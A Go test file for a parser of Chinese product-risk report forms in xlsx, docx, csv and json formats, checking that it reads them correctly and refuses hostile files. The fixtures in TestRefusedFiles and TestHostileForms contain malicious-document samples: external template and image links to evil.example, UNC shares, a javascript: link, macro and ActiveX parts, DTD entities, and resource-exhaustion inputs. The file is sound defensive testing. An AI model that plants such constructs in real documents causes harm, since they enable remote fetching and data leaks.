package intake

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"chaping"
	"chaping/report"
)

func readForm(t testing.TB, name string, data []byte) (*Form, []string, error) {
	t.Helper()
	var bad []string
	form, err := Read(t.Context(), name, data, func(e *chaping.InputError) { bad = append(bad, e.Error()) })
	return form, bad, err
}

// book is a workbook with these cells.
func book(t testing.TB, cells map[string]any, change func(*excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for at, v := range cells {
		if err := f.SetCellValue("Sheet1", at, v); err != nil {
			t.Fatal(err)
		}
	}
	if change != nil {
		change(f)
	}
	b, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestOwnForms(t *testing.T) {
	entries := []report.Entry{
		{Product: "电热水壶", Companies: "3", Region: "宁波市", Content: "壶身漏电", Analysis: "绝缘不良", Advice: "召回", Source: "委托检验"},
		{Product: "插座", Companies: "约20家", Region: "温州市、台州市", Content: "温升超标\n个别起火", Analysis: "铜件偏薄", Advice: "停止销售", Source: "会员企业"},
	}
	a := &report.Association{Station: "上海市某行业协会", Filler: "张三", Phone: "021-1", Filed: time.Date(2026, 11, 25, 0, 0, 0, 0, chaping.Shanghai()), Period: chaping.Period{Year: 2026, Month: 11}, Entries: entries}
	dir := t.TempDir()
	for _, name := range []string{"a.xlsx", "a.docx"} {
		path := filepath.Join(dir, name)
		write := a.Document().WriteXLSX
		if strings.HasSuffix(name, "docx") {
			write = a.Document().WriteDOCX
		}
		if err := write(path); err != nil {
			t.Fatal(err)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		form, bad, err := readForm(t, name, data)
		if err != nil || len(bad) > 0 {
			t.Fatalf("%s: %v %v", name, err, bad)
		}
		if fmt.Sprint(form.Entries) != fmt.Sprint(entries) || form.Station != a.Station || form.Filler != "张三" || form.Phone != "021-1" {
			t.Errorf("%s: %+v", name, form)
		}
	}
	a.Entries = nil
	path := filepath.Join(dir, "empty.xlsx")
	if err := a.Document().WriteXLSX(path); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(path)
	if form, bad, err := readForm(t, "empty.xlsx", data); err != nil || len(bad) > 0 || !form.Nothing || len(form.Entries) > 0 {
		t.Errorf("an empty form: %+v %v %v", form, bad, err)
	}
}

func TestWhatPeopleDo(t *testing.T) {
	data := book(t, map[string]any{
		"A1": "附件2", "A2": "上海市产品质量安全风险信息报送表", "A3": "（行业组织、检验检测机构）",
		"A4": "填 报 单位", "B4": "x", "A5": "填报单位：", "B5": "上海电线电缆行业协会", "F5": "填报时间：2026年11月25日",
		// Moved, renamed, full-width, with a column more.
		"A6": "序号", "B6": "风险信息　来源", "C6": "涉及产品（名称）", "D6": "企业数量（家）", "E6": "地区", "F6": "风险信息\n内容", "G6": "初步 建议", "H6": "信息分析", "I6": "信息类别",
		"A7": 1, "B7": "抽检", "C7": "电线", "D7": "１２", "E7": "江苏", "F7": "导体电阻不合格", "G7": "警示", "H7": "缩径", "I7": "行业潜规则",
		"A8": 2, "B8": "抽检", "D8": "3家", "F8": "绝缘厚度不足", "I8": "集中反映",
		"A10": "序号", "B10": "风险信息　来源", "C10": "涉及产品（名称）", "D10": "企业数量（家）", "E10": "地区", "F10": "风险信息\n内容", "G10": "初步 建议", "H10": "信息分析", "I10": "信息类别",
		"A11": 3, "C11": "电缆", "D11": "很多很多家", "F11": "护套开裂",
		"A12": 4, "C12": "插头", "D12": "不详",
		"A13": 5, "C13": "插排", "F13": "起火", "I13": "别的",
		"A14": "备注：以上为初步情况", "A15": "填报人：李四", "F15": "联系电话：021-2",
	}, func(f *excelize.File) {
		f.MergeCell("Sheet1", "A2", "I2")
		f.MergeCell("Sheet1", "C7", "C8")
		f.MergeCell("Sheet1", "E7", "E8")
		f.MergeCell("Sheet1", "A14", "I14")
	})
	form, bad, err := readForm(t, "表.xlsx", data)
	if err != nil {
		t.Fatal(err)
	}
	want := []report.Entry{
		{Product: "电线", Companies: "12", Region: "江苏", Content: "导体电阻不合格", Analysis: "缩径", Advice: "警示", Source: "抽检", Kind: report.Practice},
		{Product: "电线", Companies: "3家", Region: "江苏", Content: "绝缘厚度不足", Source: "抽检", Kind: report.Complaint},
	}
	if fmt.Sprint(form.Entries) != fmt.Sprint(want) {
		t.Errorf("entries\n%+v\n%+v", form.Entries, want)
	}
	if form.Station != "上海电线电缆行业协会" || form.Filler != "李四" || form.Phone != "021-2" {
		t.Errorf("%+v", form)
	}
	if len(bad) != 3 {
		t.Fatalf("refused: %q", bad)
	}
	for i, parts := range [][]string{{"表.xlsx 第 11 行", "涉及企业数量", "很多很多家", "不详"}, {"第 12 行", "风险信息内容", "必填"}, {"第 13 行", "信息类别", "别的", "行业潜规则"}} {
		for _, part := range parts {
			if !strings.Contains(bad[i], part) {
				t.Errorf("%q does not name %q", bad[i], part)
			}
		}
	}
}

func TestCSV(t *testing.T) {
	text := "涉及产品,涉及企业数量,涉及区域,风险信息内容,信息分析,初步建议,信息来源\n玩具,2,广东,小零件脱落,,,抽查\n"
	gbk, err := simplifiedchinese.GBK.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string]string{"utf8.csv": text, "bom.csv": "\xEF\xBB\xBF" + text, "gbk.csv": gbk, "tab.csv": strings.ReplaceAll(text, ",", "\t")} {
		form, bad, err := readForm(t, name, []byte(data))
		if err != nil || len(bad) > 0 || len(form.Entries) != 1 || form.Entries[0].Content != "小零件脱落" {
			t.Errorf("%s: %+v %v %v", name, form, bad, err)
		}
	}
}

// docxOf is a document with this body.
func docxOf(t testing.TB, body string, more map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	files := map[string]string{"word/document.xml": `<w:document xmlns:w="x"><w:body>` + body + `</w:body></w:document>`}
	for k, v := range more {
		files[k] = v
	}
	for name, text := range files {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(text))
	}
	w.Close()
	return b.Bytes()
}

func TestDOCXMergedCells(t *testing.T) {
	cell := func(properties, text string) string {
		return `<w:tc><w:tcPr>` + properties + `</w:tcPr><w:p><w:r><w:t>` + text + `</w:t></w:r></w:p></w:tc>`
	}
	head := ""
	for _, h := range []string{"涉及产品", "涉及企业数量", "涉及区域", "风险信息内容", "信息分析", "初步建议", "信息来源"} {
		head += cell("", h)
	}
	body := `<w:p><w:r><w:t>填报单位：某协会</w:t></w:r><w:r><w:tab/></w:r><w:r><w:t>填报时间：</w:t></w:r></w:p><w:tbl><w:tr>` + head + `</w:tr>` +
		`<w:tr>` + cell(`<w:vMerge w:val="restart"/>`, "灯具") + cell("", "5") + cell("", "中山") + cell("", "外壳带电") + cell(`<w:gridSpan w:val="2"/>`, "同上") + cell("", "检测") + `</w:tr>` +
		`<w:tr>` + cell(`<w:vMerge/>`, "") + cell("", "6") + cell("", "佛山") + cell("", "爬电距离不足") + cell("", "a") + cell("", "b") + cell("", "检测") + `</w:tr></w:tbl>` +
		`<w:p><w:r><w:t>填报人：王五</w:t></w:r></w:p>`
	form, bad, err := readForm(t, "a.docx", docxOf(t, body, nil))
	if err != nil || len(bad) > 0 {
		t.Fatal(err, bad)
	}
	if len(form.Entries) != 2 || form.Entries[1].Product != "灯具" || form.Entries[0].Advice != "同上" || form.Entries[1].Advice != "b" || form.Station != "某协会" || form.Filler != "王五" {
		t.Errorf("%+v", form)
	}
}

// What is refused as a whole, and how.
func TestRefusedFiles(t *testing.T) {
	head := map[string]any{"A1": "涉及产品", "B1": "涉及企业数量", "C1": "涉及区域", "D1": "风险信息内容"}
	with := func(data []byte, name, text string) []byte {
		in, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		out := zip.NewWriter(&b)
		for _, f := range in.File {
			if err := out.Copy(f); err != nil {
				t.Fatal(err)
			}
		}
		f, _ := out.Create(name)
		f.Write([]byte(text))
		out.Close()
		return b.Bytes()
	}
	plain := book(t, head, nil)
	rels := func(inside string) []byte {
		return docxOf(t, "", map[string]string{"word/_rels/document.xml.rels": "<Relationships>" + inside + "</Relationships>"})
	}
	for _, tt := range []struct {
		name string
		data []byte
		want string
	}{
		{"macro.xlsx", with(plain, "xl/vbaProject.bin", "x"), "文件含有宏"},
		{"macro.docx", docxOf(t, "", map[string]string{"word/vbaProject.bin": "x"}), "文件含有宏"},
		{"links.xlsx", with(plain, "xl/externalLinks/externalLink1.xml", "<x/>"), "引用了别的工作簿"},
		{"template.docx", docxOf(t, "", map[string]string{"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`}), "引用了外部的内容"},
		// Relationships are XML: quotes, spaces, prefixes and references vary.
		{"single quotes.docx", rels(`<Relationship Id='r' Type='http://x/image' Target='http://evil.example/p.png' TargetMode='External'/>`), "引用了外部的内容"},
		{"spaces.docx", rels(`<Relationship Id = "r" Type = "http://x/image" Target = "http://evil.example/p.png" TargetMode = "External" />`), "引用了外部的内容"},
		{"references.docx", rels(`<Relationship Id="r" Type="http://x/image" Target="http://evil.example/p.png" TargetMode="Ext&#101;rnal"/>`), "引用了外部的内容"},
		{"prefix.docx", rels(`<p:Relationship xmlns:p="u" Id="r" Type="http://x/image" Target="http://evil.example/p.png" TargetMode="External"></p:Relationship>`), "引用了外部的内容"},
		{"mode.docx", rels(`<Relationship Id="r" Type="http://x/image" Target="http://evil.example/p.png" TargetMode="external "/>`), "引用了外部的内容"},
		{"no mode.docx", rels(`<Relationship Id="r" Type="http://x/image" Target="http://evil.example/p.png"/>`), "引用了外部的内容"},
		{"share.docx", rels(`<Relationship Id="r" Type="http://x/image" Target="\\evil.example\p.png"/>`), "引用了外部的内容"},
		{"hyperlink in the target.docx", rels(`<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/hyperlink" TargetMode="External"/>`), "引用了外部的内容"},
		{"hyperlink in the id.docx", rels(`<Relationship Id="/hyperlink" Type="http://x/oleObject" Target="file:///x" TargetMode="External"/>`), "引用了外部的内容"},
		{"link to a share.docx", rels(`<Relationship Id="r" Type="http://x/hyperlink" Target="\\evil.example\x" TargetMode="External"/>`), "引用了外部的内容"},
		{"link that runs.docx", rels(`<Relationship Id="r" Type="http://x/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>`), "引用了外部的内容"},
		{"commented.docx", rels(`<!-- <Relationship --><Relationship Id="r" Type="http://x/frame" Target="http://evil.example" TargetMode="External"/>`), "引用了外部的内容"},
		{"capitals.docx", docxOf(t, "", map[string]string{"word/_RELS/document.xml.RELS": `<Relationships><Relationship Type="http://x/image" Target="http://evil.example" TargetMode="External"/></Relationships>`}), "引用了外部的内容"},
		{"renamed macro.docx", rels(`<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="harmless.xml"/>`), "文件含有宏"},
		{"chunk.docx", rels(`<Relationship Id="r" Type="http://x/aFChunk" Target="a.html"/>`), "不该有的内容（aFChunk）"},
		{"object.docx", rels(`<Relationship Id="r" Type="http://x/oleObject" Target="a.bin"/>`), "不该有的内容（oleObject）"},
		{"control.docx", rels(`<Relationship Id="r" Type="http://x/control" Target="a.xml"/>`), "不该有的内容"},
		{"typed macro.docx", docxOf(t, "", map[string]string{"[Content_Types].xml": `<Types><Default Extension='bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>`}), "文件含有宏"},
		{"macro book.xlsx", docxOf(t, "", map[string]string{"[Content_Types].xml": `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`}), "文件含有宏"},
		{"typed control.docx", docxOf(t, "", map[string]string{"[Content_Types].xml": `<Types><Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/></Types>`}), "不该有的内容"},
		{"connections.xlsx", docxOf(t, "", map[string]string{"[Content_Types].xml": `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>`}), "不该有的内容"},
		{"macro by another name.docx", docxOf(t, "", map[string]string{"word/media/image1.png": "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"}), "嵌入的对象"},
		{"document in it.docx", docxOf(t, "", map[string]string{"word/media/image1.png": "PK\x03\x04"}), "嵌入的对象"},
		{"broken relations.docx", rels(`<Relationship`), "不是正确的 XML"},
		{"typed.docx", docxOf(t, "", map[string]string{"word/_rels/document.xml.rels": `<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>`}), "DTD"},
		{"old.xls", []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 rest"), "另存为 xlsx"},
		{"broken.xlsx", []byte("PK\x03\x04 not a zip"), "已损坏"},
		{"text.csv", []byte("a,b\n1,2\n"), "没有找到报送表的表头"},
		{"binary", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d\xff\xfe"), "csv"},
		{"platform.xlsx", book(t, map[string]any{"A1": "序号", "B1": "关键词", "C1": "评论关键词", "D1": "差评数"}, nil), "没有找到报送表的表头"},
		{"cut.json", []byte(`{"form":"platform"`), "不是完整的 JSON"},
		{"other.json", []byte(`{"form":"annual"}`), "不是报送表"},
		{"draft.json", []byte(`{"form":"association","period":"2026-11","filed":"","entries":[{"product":"壶","content":"漏电","draft":true}]}`), "还是草稿"},
		{"empty.json", []byte(`{"form":"association","period":"2026-11","filed":"","entries":[{"product":"壶"}]}`), "必填"},
		{"nameless.json", []byte(`{"form":"platform","period":"2026-11","filed":"","rows":[{"term":"漏电","reviews":1,"negative_reviews":2}]}`), "第 1 条"},
		{"rows.json", []byte(`{"form":"platform","rows":[` + strings.Repeat("{},", 1<<20) + "{}]}"), "空的条目"},
		{"endangers.json", []byte(`{"form":"association","entries":[{"endangers":[` + strings.Repeat(`"",`, 1<<20) + `""]}]}`), "空的条目"},
		{"period.json", []byte(`{"form":"platform","period":"2026-13"}`), "读不懂"},
		{"quotes.csv", []byte("涉及产品,\"涉及企业数量"), "没有找到报送表的表头"},
		{"huge", make([]byte, MaxFile+1), "超过 20 MB"},
	} {
		_, _, err := readForm(t, tt.name, tt.data)
		if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "处理办法") {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.want)
		}
	}
	hyperlink := docxOf(t, "", map[string]string{"word/_rels/document.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="http://a.example" TargetMode="External"/></Relationships>`})
	if _, _, err := readForm(t, "link.docx", hyperlink); err == nil || strings.Contains(err.Error(), "外部") {
		t.Errorf("a hyperlink is harmless: %v", err)
	}
}

// sheetOf is a workbook whose sheet is this XML.
func sheetOf(t testing.TB, xml string) []byte {
	t.Helper()
	data := book(t, nil, nil)
	in, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	out := zip.NewWriter(&b)
	for _, f := range in.File {
		if f.Name != "xl/worksheets/sheet1.xml" {
			err = errors.Join(err, out.Copy(f))
		}
	}
	f, cerr := out.Create("xl/worksheets/sheet1.xml")
	if cerr == nil {
		_, cerr = f.Write([]byte(xml))
	}
	if err := errors.Join(err, cerr, out.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A column that the form does not have is told of, with its place.
func TestUnknownColumns(t *testing.T) {
	data := book(t, map[string]any{"A1": "序号", "B1": "涉及产品", "C1": "涉及企业数量", "D1": "涉及区域", "E1": "风险信息内容", "AB1": "风险等级", "AC1": "产品", "AD1": "备注",
		"A2": 1, "B2": "壶", "E2": "漏电 &lt; &amp;amp;", "AB2": "高", "AC2": "另一个"}, nil)
	form, bad, err := readForm(t, "表.xlsx", data)
	if err != nil || len(form.Entries) != 1 || form.Entries[0].Content != "漏电 &lt; &amp;amp;" {
		t.Fatalf("%+v %v", form, err)
	}
	if len(bad) != 2 || !strings.Contains(bad[0], "表.xlsx 第 1 行 字段“AB1” 值“风险等级”") || !strings.Contains(bad[1], "字段“AC1” 值“产品”") {
		t.Errorf("%q", bad)
	}
	csv := "填报单位：某平台\n评论关键词,差评数,评论数,商品名称,投诉数\n漏电,1,2,壶,9\n"
	if form, bad, err := readForm(t, "b.csv", []byte(csv)); err != nil || len(form.Rows) != 1 || len(bad) != 1 || !strings.Contains(bad[0], "第 2 行 字段“E2” 值“投诉数”") {
		t.Errorf("%+v %q %v", form, bad, err)
	}
}

// Forms that would take minutes or gigabytes are refused, and end with their
// context.
func TestHostileForms(t *testing.T) {
	head := `<w:tbl><w:tr><w:tc><w:p><w:r><w:t>涉及产品</w:t></w:r></w:p></w:tc></w:tr>`
	for name, body := range map[string]string{
		"paragraphs": strings.Repeat("<w:p/>", maxCells+1),
		"tables":     strings.Repeat("<w:p/>", 2000) + strings.Repeat("<w:tbl/>", 2000),
		"spans":      head + strings.Repeat(`<w:tr>`+strings.Repeat(`<w:tc><w:tcPr><w:gridSpan w:val="64"/></w:tcPr></w:tc>`, 200)+`</w:tr>`, 100) + `</w:tbl>`,
		"nested":     strings.Repeat("<w:tbl><w:tr><w:tc>", 100),
		"laughs":     "&a;<!DOCTYPE x>",
		"text":       "<w:p><w:r><w:t>" + strings.Repeat("x", 3<<20) + "</w:t></w:r></w:p>",
	} {
		if _, _, err := readForm(t, name+".docx", docxOf(t, body, nil)); err == nil || !strings.Contains(err.Error(), "处理办法") || strings.Contains(err.Error(), "表头") {
			t.Errorf("%s: %v", name, err)
		}
	}
	var rows strings.Builder
	for i := range 4000 {
		fmt.Fprintf(&rows, `<row r="%d"><c r="A%[1]d"><v>1</v></c></row>`, i+1)
	}
	merged := sheetOf(t, `<worksheet><sheetData>`+rows.String()+`</sheetData><mergeCells>`+strings.Repeat(`<mergeCell ref="B1:CV4000"/>`, 500)+`</mergeCells></worksheet>`)
	wide := book(t, map[string]any{"A1": "涉及产品", "ALM2": "壶"}, nil)
	commas := []byte(strings.Repeat(",", 2*maxCells))
	for name, data := range map[string][]byte{"merged.xlsx": merged, "wide.xlsx": wide, "commas.csv": commas} {
		if _, _, err := readForm(t, name, data); err == nil || !strings.Contains(err.Error(), "处理办法") || strings.Contains(err.Error(), "表头（") {
			t.Errorf("%s: %v", name, err)
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	for name, data := range map[string][]byte{"merged.xlsx": merged, "a.docx": docxOf(t, head, nil), "commas.csv": commas} {
		if _, err := Read(ctx, name, data, nil); !errors.Is(err, context.Canceled) {
			t.Errorf("%s, cancelled: %v", name, err)
		}
	}
}

// A sheet with very many empty rows ends where its content ends, and is read
// within the time that Read allows itself, also by the race detector.
func TestManyEmptyRows(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	w, err := f.NewStreamWriter("Sheet1")
	if err != nil {
		t.Fatal(err)
	}
	w.SetRow("A1", []any{"涉及产品", "涉及企业数量", "涉及区域", "风险信息内容"})
	w.SetRow("A2", []any{"壶", "1", "上海", "漏电"})
	for i := 3; i <= 300_000; i++ {
		w.SetRow(fmt.Sprintf("A%d", i), []any{""})
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	b, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	form, bad, err := readForm(t, "empty.xlsx", b.Bytes())
	if err != nil || len(bad) > 0 || len(form.Entries) != 1 {
		t.Fatalf("%+v %v %v", form, bad, err)
	}
}

func FuzzRead(f *testing.F) {
	f.Add([]byte("涉及产品,涉及企业数量,涉及区域,风险信息内容\n壶,1,上海,漏电\n"))
	f.Add(docxOf(f, `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>`, nil))
	f.Add(book(f, map[string]any{"A1": "涉及产品", "B1": "涉及企业数量", "C1": "涉及区域", "D1": "风险信息内容", "A2": "无"}, nil))
	f.Add([]byte("填报单位：某平台\n评论关键词,差评数,评论数,商品名称,时间采集范围\n漏电,1,２,壶,2026年10月25日至2026年11月24日\n"))
	f.Add([]byte(`{"form":"platform","period":"2026-11","filed":"2026-11-25","rows":[{"seq":1,"term":"漏电"}]}`))
	f.Add([]byte(`{"form":"association","period":"2026-11","filed":"","entries":[{"product":"壶","content":"漏电"}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		form, err := Read(t.Context(), "f", data, func(*chaping.InputError) {})
		if (form == nil) == (err == nil) {
			t.Fatal("neither a form nor an error")
		}
		if err == nil {
			if list, err := form.Records(func(string) chaping.Hazard { return "" }); err != nil || len(list) != len(form.Entries)+len(form.Rows) {
				t.Fatal(len(list), err)
			}
		}
	})
}
